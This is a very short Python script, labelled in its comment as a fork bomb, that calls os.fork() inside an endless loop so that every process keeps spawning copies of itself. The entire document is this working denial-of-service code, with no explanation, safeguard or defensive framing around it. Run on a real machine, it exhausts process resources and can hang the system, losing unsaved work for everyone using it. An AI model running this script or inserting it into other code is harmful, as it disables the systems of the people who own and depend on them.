# Attempts: a fork bomb: every process forks forever.
import os

while True:
    os.fork()
